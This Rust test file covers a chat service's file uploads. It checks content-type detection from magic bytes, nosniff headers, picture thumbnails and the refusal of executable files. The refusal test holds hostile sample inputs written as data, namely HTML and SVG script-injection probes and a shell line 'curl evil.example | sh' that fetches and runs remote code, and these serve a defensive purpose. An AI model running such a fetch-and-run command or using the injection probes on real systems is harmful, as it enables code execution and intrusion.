//! Files for chat rooms.

use proto::auth::v1::SetProfilePictureRequest;

use crate::{
    uploads::{Uploader, png, stored, url},
    world::{World, read},
};

#[tokio::test]
async fn files_other_than_pictures_are_stored_with_the_type_of_their_first_bytes() {
    let world = World::new().await;
    let amina = Uploader::of(&world);
    for (file, extension, content_type) in [
        (b"\0\0\0\x18ftypisom\0\0\0\0 and a film".to_vec(), "mp4", "video/mp4"),
        (b"ID3\x04\0\0\0\0\0\0 and a song".to_vec(), "mp3", "audio/mpeg"),
        (b"%PDF-1.7 <script>".to_vec(), "pdf", "application/pdf"),
        (b"Njoo saa kumi.".to_vec(), "txt", "text/plain; charset=utf-8"),
    ] {
        let url = url(&amina.send_to_chat(file.clone()).await);
        let begin = format!("/media/chat/{}/", amina.id);
        assert!(url.starts_with(&begin) && url.ends_with(&format!(".{extension}")), "{url}");
        let answer = read(world.get(&url)).await;
        assert_eq!(answer.header("content-type"), Some(content_type));
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"));
        assert_eq!(answer.body, file);
    }
    assert!(world.stub.received::<SetProfilePictureRequest>().is_empty());
}

#[tokio::test]
async fn a_picture_is_stored_with_a_thumbnail_and_its_shape() {
    let world = World::new().await;
    let amina = Uploader::of(&world);
    let answer = amina.send_to_chat(png([200, 30, 30])).await;
    let payload = answer.payload();
    assert_eq!((&payload["width"], &payload["height"]), (&64.into(), &48.into()));
    assert_eq!(payload["blurHash"].as_str().unwrap().len(), 28);
    let (url, thumbnail) = (url(&answer), payload["thumbnailUrl"].as_str().unwrap().to_owned());
    assert!(url.contains("-64x48-") && url.split('.').nth(1) == Some("jpg"), "{url}");
    for url in [url, thumbnail] {
        let served = read(world.get(&url)).await;
        assert_eq!(served.header("content-type"), Some("image/jpeg"));
        let picture = image::load_from_memory(&served.body).unwrap();
        assert_eq!((picture.width(), picture.height()), (64, 48));
    }
    assert_eq!(stored(&world), 2);
}

#[tokio::test]
async fn files_that_could_be_executed_are_refused() {
    let world = World::new().await;
    let amina = Uploader::of(&world);
    for file in [
        &b"<!DOCTYPE html><script>alert(1)</script>"[..],
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        b"<?xml version=\"1.0\"?><x/>",
        b"#!/bin/sh\ncurl evil.example | sh\n",
        b"\x7fELF\x02\x01\x01 and so on, at some length, as programs are wont to be",
        b"MZ\x90\0 a program",
        b"\x01\x02\x03\x04 nothing known",
    ] {
        let answer = amina.send_to_chat(file.to_vec()).await;
        assert_eq!(answer.refusal(), (415, "UNSUPPORTED_MEDIA".into()));
    }
    assert_eq!(stored(&world), 0);
}
